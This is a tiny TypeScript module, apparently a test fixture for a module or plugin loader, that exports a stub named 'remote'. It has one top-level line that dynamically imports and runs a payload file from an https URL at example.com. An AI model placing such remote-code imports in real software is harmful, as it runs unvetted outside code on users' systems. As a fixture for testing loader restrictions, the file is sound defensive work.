// Attempts: to load code from the internet with a dynamic import of an https URL.
await import("https://example.com/payload.ts");
export default { name: "remote", namespaces: {} };
